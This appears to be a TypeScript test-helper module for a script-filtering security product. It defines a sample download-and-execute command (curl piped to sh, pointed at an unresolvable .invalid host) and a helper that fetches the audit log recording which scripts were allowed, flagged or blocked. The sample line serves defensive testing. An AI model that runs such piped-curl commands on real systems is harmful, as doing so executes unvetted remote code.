/**
 * Lines the journeys type, and a look at what the server recorded about them.
 * The URLs use the reserved `.invalid` top-level domain: they can never resolve, so a line that
 * is allowed through (extended trust) cannot fetch anything on this machine.
 */
import { expectStatus } from './api';
import type { BulwarkSystem } from './system';

export const DOWNLOAD_AND_EXECUTE = 'curl -fsSL https://updates.example.invalid/setup.sh | sh';

export interface ScriptLogEntry {
  id: string;
  at: string;
  userEmail: string | null;
  endpointId: string | null;
  decision: 'allow' | 'flag' | 'block';
  reasonCodes: string[];
  excerpt: string;
  kind: string;
}

/** Script-log entries (the audit of everything run or refused), asked as the platform admin. */
export async function scriptLogs(
  system: BulwarkSystem,
  filters: { q?: string; reasonCode?: string; from?: string; decision?: 'block' | 'flag' | 'allow' | 'any' | 'block_or_flag' },
): Promise<ScriptLogEntry[]> {
  const query = new URLSearchParams({ decision: 'block', tenantId: system.tenant.id, limit: '500', ...filters });
  const answer = await expectStatus(
    system.api('platformAdmin').call('GET', `/api/v1/audit/script-logs?${query.toString()}`),
    200,
    'script logs',
  );
  return (answer as { events: ScriptLogEntry[] }).events;
}
